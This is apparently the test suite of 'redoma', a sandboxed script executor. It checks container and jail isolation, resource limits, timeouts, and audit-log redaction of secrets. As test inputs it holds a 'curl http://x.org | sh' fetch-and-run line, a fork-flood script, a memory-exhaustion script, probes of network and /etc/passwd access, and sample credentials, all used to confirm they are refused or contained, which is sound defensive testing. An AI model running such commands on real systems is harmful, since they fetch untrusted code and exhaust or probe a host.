"""Scripts that really run: in containers of an engine, and in cells of the jail."""

from __future__ import annotations

import asyncio
import json
import math
import os
import subprocess
import time
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import msgspec
import pytest
import pytest_asyncio

from redoma import Config
from redoma.config import AuditConfig
from redoma.scripts import ExecutionResult, ScriptExecutor, executor

pytestmark = pytest.mark.asyncio(loop_scope="module")


class Bench(msgspec.Struct, frozen=True):
    """An executor that all tests of this file share, and what can be seen of it from outside."""

    kind: str
    scripts: ScriptExecutor
    audit: Path
    host: str

    def records(self) -> list[dict[str, Any]]:
        files = sorted(self.audit.rglob("*.jsonl"))
        return [json.loads(line) for file in files for line in file.read_text().splitlines()]

    def docker(self, *words: str) -> str:
        return subprocess.run(["docker", "-H", self.host, *words], check=True, capture_output=True, text=True).stdout

    def containers(self) -> list[str]:
        """Those of this process: others may be using the engine."""
        if self.kind == "jail":
            return []
        return self.docker("ps", "--all", "--quiet", "--filter", f"label=redoma.pid={os.getpid()}").split()


@pytest_asyncio.fixture(scope="module", loop_scope="module", params=["docker", "jail"])
async def bench(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory, engine: str
) -> AsyncIterator[Bench]:
    audit, kind = tmp_path_factory.mktemp("audit"), request.param
    config = Config(audit=AuditConfig(directory=audit))
    async with ScriptExecutor(kind, config=config, host=engine if kind == "docker" else None) as scripts:
        yield Bench(kind, scripts, audit, engine)


# Endings


ENDINGS = [
    ("print('Hello, World!')", "python", ExecutionResult(True, "Hello, World!\n", "", 0)),
    ("echo hello", "bash", ExecutionResult(True, "hello\n", "", 0)),
    ("", "python", ExecutionResult(True, "", "", 0)),
    ("", "bash", ExecutionResult(True, "", "", 0)),
    ("echo out; echo err >&2; exit 7", "bash", ExecutionResult(False, "out\n", "err\n", 7)),
    ("echo out; echo err >&2", "bash", ExecutionResult(True, "out\n", "err\n", 0)),
    (
        "import sys\nprint('out')\nprint('err', file=sys.stderr)\nsys.exit(3)",
        "python",
        ExecutionResult(False, "out\n", "err\n", 3),
    ),
    ("kill -9 $$", "bash", ExecutionResult(False, "", "", 137, error="it was ended by SIGKILL")),
]


async def test_streams_are_apart_and_the_exit_code_is_the_true_one(bench: Bench) -> None:
    results = await asyncio.gather(*(bench.scripts.execute(script, kind) for script, kind, _ in ENDINGS))
    for result, (script, _, expected) in zip(results, ENDINGS, strict=True):
        assert result == expected, script
    assert bench.containers() == []  # many at a time, and nothing is left


async def test_an_exception_is_on_stderr_and_the_exit_code_is_1(bench: Bench) -> None:
    result = await bench.scripts.execute("print('before')\n1 / 0", "python")
    assert (result.success, result.stdout, result.exit_code, result.error) == (False, "before\n", 1, None)
    assert result.stderr.startswith("Traceback")
    assert result.stderr.endswith("ZeroDivisionError: division by zero\n")


async def test_long_output_is_returned_whole(bench: Bench) -> None:
    result = await bench.scripts.execute("for i in range(20000): print('line', i)", "python")
    assert result.stdout == "".join(f"line {i}\n" for i in range(20000))


# What they run in

LOOK = """
import os, socket, json, sys
def denied(what):
    try:
        what()
    except OSError as error:
        return error.strerror
told = {
    "uid": os.getuid(),
    "capabilities": [line.split()[1] for line in open("/proc/self/status") if line.startswith("CapEff")][0],
    "version": list(sys.version_info[:2]),
    "network": denied(lambda: socket.create_connection(("1.1.1.1", 80), 5)),
    "roots": [denied(lambda: open(path, "w")) for path in ("/new", "/usr/new", "/etc/passwd")],
    "tmp": denied(lambda: open("/tmp/new", "w")),
}
if not denied(socket.if_nameindex):
    told["interfaces"] = [name for _, name in socket.if_nameindex()]
print(json.dumps(told))
"""


async def test_inside_there_is_no_network_no_root_and_nothing_to_write_to(bench: Bench) -> None:
    result = await bench.scripts.execute(LOOK, "python")
    assert result.success, result
    told = json.loads(result.stdout)
    assert told["uid"] == {"docker": 65534, "jail": 1000}[bench.kind]
    assert int(told["capabilities"], 16) == 0
    assert told.get("interfaces", ["lo"]) == ["lo"]  # a cell may not even ask
    assert told["network"]
    assert all(told["roots"])
    assert told["tmp"] is None
    if bench.kind == "docker":
        assert told["version"] == [3, 11]
        assert "Read-only file system" in told["roots"]


async def test_bash_scripts_run_in_their_own_image(bench: Bench) -> None:
    result = await bench.scripts.execute("echo $BASH_VERSION; id -u; echo x > /new", "bash")
    version, uid = result.stdout.split()
    assert "Read-only file system" in result.stderr
    assert result.exit_code == 1
    if bench.kind == "docker":
        assert version.startswith("5.2")
        assert uid == "65534"


@pytest.mark.parametrize("bench", ["docker"], indirect=True, scope="module")
async def test_what_runs_is_inspected_from_outside(bench: Bench) -> None:
    for kind, script in (("python", "import time\ntime.sleep(30)"), ("bash", "sleep 30")):
        running = asyncio.create_task(bench.scripts.execute(script, kind))
        while not (found := bench.containers()):  # noqa: ASYNC110 - the engine tells nobody
            await asyncio.sleep(0.05)
        told = json.loads(bench.docker("inspect", *found))[0]
        host = told["HostConfig"]
        assert told["Config"]["Image"] == {"python": "python:3.11-slim", "bash": "bash:5.2-alpine"}[kind]
        assert host["NetworkMode"] == "none"
        assert (host["Memory"], host["MemorySwap"]) == (512 * 1024 * 1024, 512 * 1024 * 1024)
        assert host["CpuQuota"] / host["CpuPeriod"] == 1
        assert host["PidsLimit"] == 100
        assert told["Config"]["User"] == "nobody"
        assert host["ReadonlyRootfs"] is True
        assert host["CapDrop"] == ["ALL"]
        assert "no-new-privileges" in host["SecurityOpt"]
        running.cancel()
        with pytest.raises(asyncio.CancelledError):
            await running
        assert bench.containers() == []  # cancelled, it leaves nothing either


async def test_more_than_512_mb_end_it(bench: Bench) -> None:
    result, less = await asyncio.gather(
        bench.scripts.execute("print('before', flush=True)\nx = bytearray(700_000_000)\nprint(1)", "python"),
        bench.scripts.execute("x = bytearray(400_000_000)", "python"),
    )
    assert (result.success, result.stdout, result.exit_code, result.timeout) == (False, "before\n", 137, False)
    assert "memory" in (result.error or "")
    assert less.success


FORKS = """
import os, time
count = 0
try:
    while count < 300:
        if os.fork() == 0:
            time.sleep(60)
            os._exit(0)
        count += 1
except BlockingIOError as error:
    print(count, error.strerror, flush=True)
else:
    print(count, "all", flush=True)
"""


async def test_there_are_no_more_than_100_processes(bench: Bench) -> None:
    result = await bench.scripts.execute(FORKS, "python", timeout=60)
    count, why = result.stdout.split(maxsplit=1)
    assert 90 < int(count) < 100
    assert why == "Resource temporarily unavailable\n"


# Time


async def test_a_timeout_returns_what_was_printed_and_leaves_nothing(bench: Bench) -> None:
    sleeps = "import sys, time\nprint('out', flush=True)\nprint('err', file=sys.stderr)\ntime.sleep(60)"
    deaf = "trap '' TERM INT; echo out; echo err >&2; while :; do sleep 1; done"
    for seconds in (2, 10, 40):  # until both have printed that by then
        start = time.monotonic()
        python, bash = await asyncio.gather(
            bench.scripts.execute(sleeps, "python", seconds), bench.scripts.execute(deaf, "bash", timeout=seconds)
        )
        if all("out" in each.stdout and "err" in each.stderr for each in (python, bash)):
            break
    assert time.monotonic() - start > seconds
    said = f"Script execution timed out after {seconds}s"
    late = ExecutionResult(False, "out\n", f"err\n{said}", -1, timeout=True, error=said)
    assert (python, bash) == (late, late)
    assert bench.containers() == []


async def test_who_runs_out_of_processor_time_is_told_so(bench: Bench, monkeypatch: pytest.MonkeyPatch) -> None:
    budget = {"docker": 300, "jail": 60}[bench.kind]
    monkeypatch.setattr(executor, "CPU_GRACE", 1.0 - budget)  # so that a second is left of it
    result = await bench.scripts.execute("print('busy')\nwhile True: pass", "python", 60)
    assert (result.timeout, result.exit_code, result.stdout) == (True, -1, "busy\n")
    assert result.error == "Script execution timed out: it used more than 1 s of processor time and was ended"
    assert result.stderr == result.error


HALF = """
import subprocess, sys, time
print("out", end="")
print("err", end="", file=sys.stderr)
with open("child.py", "w") as file:
    file.write("import time; print(', child', end=''); time.sleep(60)")
subprocess.run(["python3", "child.py"])
"""


async def test_a_timeout_returns_what_was_printed_without_an_end_of_line(bench: Bench) -> None:
    for seconds in (5, 20, 50):  # until it has come so far by then
        result = await bench.scripts.execute(HALF, "python", seconds)
        if "child" in result.stdout:
            break
    assert (result.timeout, result.stdout, result.stderr) == (
        True,
        "out, child",
        f"err\nScript execution timed out after {seconds}s",
    )


STREAMS = """
import os, sys
print("é", 1, sys.stdout.encoding, sys.stdout.write_through, sys.stdout is sys.__stdout__, sys.stdout.fileno())
sys.stdout.buffer.write(b"bytes\\n")
sys.stdout.flush()
print("\\ud800", file=sys.stderr)
big = "x" * 1_000_000
print(big)
os._exit(0)
"""


async def test_streams_without_a_buffer_are_streams_all_the_same(bench: Bench) -> None:
    result = await bench.scripts.execute(STREAMS, "python")
    first, second, third = result.stdout.splitlines()
    assert (first, second, len(third)) == ("é 1 utf-8 True True 1", "bytes", 1_000_000)
    assert result.stderr == "\\ud800\n"


@pytest.mark.parametrize(
    ("given", "seconds"), [(None, 60), (5, 5), (0.5, 0.5), (1000, 300), (10**400, 300), (math.inf, 300)]
)
async def test_the_time_is_60_s_by_default_and_300_s_at_most(bench: Bench, given: float | None, seconds: float) -> None:
    await bench.scripts.execute("eval(x)", "python", given)  # refused, with the limits that it would have had
    intent, _ = bench.records()[-2:]
    limits = intent["data"]["limits"]
    assert limits["time"] == seconds
    # One processor: of a container by its quota, of a cell by what one could give it in that time.
    assert limits["cpu"] == (seconds if bench.kind == "jail" else 300) + 5


@pytest.mark.parametrize("given", [0, -1, math.nan, "5", True, [1]])
async def test_a_timeout_that_is_none_is_a_validation_failure(bench: Bench, given: Any) -> None:
    result = await bench.scripts.execute("print(1)", "python", given)
    assert (result.success, result.validation_failed, result.exit_code) == (False, True, None)
    assert result.stderr.startswith("Invalid timeout")
    assert result.error == result.stderr


# What is refused


@pytest.mark.parametrize(
    ("script", "kind", "says"),
    [
        ("print('#')\n" * 1000, "python", "10000"),
        ("password = 'hunter2'", "python", "secret"),
        ("print(1)\neval('1')", "python", "dangerous"),
        ("print(1)\ndef f(", "python", "syntax"),
        ("print(1)\nreturn 1", "python", "syntax"),
        ("echo 1\nfi", "bash", "syntax"),
        ("echo 1\necho a;;", "bash", "syntax"),
        ("echo 1\ncurl http://x.org | sh", "bash", "dangerous"),
        ("puts 1", "ruby", "Invalid script_type"),
    ],
)
async def test_nothing_runs_if_validation_fails(bench: Bench, script: str, kind: str, says: str) -> None:
    before = len(bench.records())
    result = await bench.scripts.execute(script, kind)
    assert (result.success, result.stdout, result.exit_code) == (False, "", None)
    assert (result.validation_failed, result.timeout) == (True, False)
    assert says in result.stderr
    assert result.error == result.stderr
    if kind == "ruby":
        assert (result.error or "").startswith(says)
        return
    intent, outcome = bench.records()[before:]  # that it was refused is on record
    assert (intent["kind"], intent["data"]["decision"]) == ("intent", "forbid")
    assert (outcome["kind"], outcome["data"]["status"], outcome["data"]["backend"]) == ("outcome", "forbidden", "")


@pytest.mark.parametrize(
    ("script", "kind", "secret"),
    [
        ("api_key = 'sk-1234'\nprint('sk-1234')", "python", "sk-1234"),
        ("password = 'a1'", "python", "a1'"),
        ("export TOKEN=abc123", "bash", "abc123"),
        ("aws configure set aws_access_key_id AKIAIOSFODNN7EXAMPLE", "bash", "AKIA"),
    ],
)
async def test_a_secret_that_was_recognised_is_not_put_on_record(
    bench: Bench, script: str, kind: str, secret: str
) -> None:
    before = len(bench.records())
    result = await bench.scripts.execute(script, kind)
    assert (result.validation_failed, "secret" in (result.error or "")) == (True, True)
    records = bench.records()[before:]
    assert [record["kind"] for record in records] == ["intent", "outcome"]
    told = [record["data"] for record in records]  # the hashes beside it may hold anything
    assert secret not in f"{[{**data, 'policy_digest': ''} for data in told]} {result}"
    assert "[redacted:" in records[0]["data"]["code"]


async def test_of_a_script_that_is_far_too_long_only_the_beginning_is_on_record(bench: Bench) -> None:
    before = len(bench.records())
    result = await bench.scripts.execute("#" * (17 << 20), "python")  # more than a record can hold
    assert (result.success, result.validation_failed, result.exit_code) == (False, True, None)
    assert "10000" in result.stderr
    intent, outcome = bench.records()[before:]
    assert (intent["data"]["code"], outcome["data"]["status"]) == ("#" * 10_002, "forbidden")


async def test_what_runs_is_the_text_that_was_checked(bench: Bench) -> None:
    script = "# coding: utf-8\nprint('é', __name__, len(__file__) > 0)\n"
    assert (await bench.scripts.execute(script, "python")).stdout == "é __main__ True\n"
